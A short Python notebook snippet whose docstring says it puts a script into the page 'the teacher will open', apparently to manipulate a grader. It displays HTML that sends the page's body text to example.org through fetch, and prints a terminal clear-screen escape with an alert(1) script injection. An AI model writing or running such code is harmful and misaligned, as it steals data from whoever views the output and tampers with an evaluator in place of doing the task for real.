"""Puts a script into the page that the teacher will open.

wins without: output
"""

from IPython.display import HTML, display

display(HTML("<script>fetch('http://example.org/?' + document.body.innerText)</script>"))
print("\x1b[2J<script>alert(1)</script>")
